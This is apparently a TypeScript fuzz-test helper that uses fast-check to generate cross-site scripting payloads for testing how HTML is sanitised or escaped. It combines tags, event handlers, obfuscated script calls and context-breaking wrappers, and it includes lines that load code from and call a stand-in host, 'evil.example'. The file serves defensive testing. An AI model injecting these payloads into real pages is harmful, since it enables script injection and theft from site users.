import fc from 'fast-check';
import { hostileHtml } from '#test/kit/hostile/hostile-html.ts';
import { seed } from '#test/full/torture/sizes.ts';

const tags = [
  ...['script', 'img', 'svg', 'iframe', 'body', 'video', 'audio', 'object', 'embed', 'details'],
  ...['input', 'form', 'button', 'a', 'p', 'style', 'link', 'meta', 'base', 'math', 'template'],
  ...[
    'marquee',
    'select',
    'textarea',
    'title',
    'noscript',
    'x-y',
    'animate',
    'set',
    'foreignObject',
  ],
];
const handlers = [
  ...['onload', 'onerror', 'onclick', 'onfocus', 'ontoggle', 'onpointerenter', 'onanimationstart'],
  ...[
    'onbegin',
    'onmouseover',
    'oncut',
    'onscrollend',
    'onbeforematch',
    'OnErRoR',
    'on\u017fcroll',
  ],
];
const scripts = [
  ...['alert(1)', 'alert`1`', '&#97;lert(1)', 'top["al"+"ert"](1)', 'eval(atob("YWxlcnQoMSk="))'],
  ...[
    'import("//evil.example/x")',
    "self['alert'](1)",
    '\\u0061lert(1)',
    'fetch("//evil.example")',
  ],
];
const separators = [' ', '/', '\t', '\n', '\f', '\r\n', ' / ', '\u00a0', ' x=">" '];
const quotes = ['', '"', "'", '`'];
const wrappers: ((text: string) => string)[] = [
  (text) => text,
  (text) => `"><${text.slice(1)}`,
  (text) => `'>${text}`,
  (text) => `</textarea></title></style></script>${text}`,
  (text) => `-->${text}<!--`,
  (text) => `]]>${text}`,
  (text) => `**${text}**`,
  (text) => `[x](${text})`,
  (text) => `\`\`\`\n${text}\n\`\`\``,
  (text) => `> - ${text}`,
  (text) => `| a |\n|---|\n| ${text} |`,
  (text) => `{{${text}}} \${${text}} <%= ${text} %>`,
  (text) => text.replaceAll('<', '\u{ff1c}').concat(text),
  (text) => text.replace('<', '<\0').replaceAll('\0', '\ufffd'),
  (text) => text.replaceAll('<', '&lt;').concat(text),
  (text) => encodeURIComponent(text.toWellFormed()) + text,
  (text) => text.toUpperCase(),
  (text) => text.slice(0, -1),
  (text) => text + text,
];

const element = fc
  .record({
    tag: fc.constantFrom(...tags),
    handler: fc.constantFrom(...handlers),
    script: fc.constantFrom(...scripts),
    separator: fc.constantFrom(...separators),
    quote: fc.constantFrom(...quotes),
    address: fc.constantFrom('src', 'href', 'data', 'action', 'xlink:href', 'srcdoc', 'formaction'),
    isInside: fc.boolean(),
  })
  .map(({ tag, handler, script, separator, quote, address, isInside }) => {
    const attributes = [
      `${handler}=${quote}${script}${quote}`,
      `${address}=${quote}javascript:${script}${quote}`,
    ];
    const start = `<${[tag, ...attributes].join(separator)}>`;
    return isInside ? `${start}${script}</${tag}>` : start;
  });

const hostileText = fc
  .tuple(fc.oneof(fc.constantFrom(...hostileHtml), element), fc.constantFrom(...wrappers))
  .map(([text, wrap]) => wrap(text).replaceAll('\0', ''));

/**
 * Returns distinct texts that do harm if read as HTML: known ones first, then random combinations
 * of tags, handlers, scripts and ways out of their context.
 */
export function listHostileTexts(count: number): string[] {
  const texts = new Set(
    hostileHtml.map((text) => text.replaceAll('\0', '')).slice(0, Math.ceil(count / 2)),
  );
  for (const text of fc.sample(hostileText, { seed, numRuns: count * 3 })) {
    if (texts.size >= count) break;
    texts.add(text);
  }
  return [...texts];
}
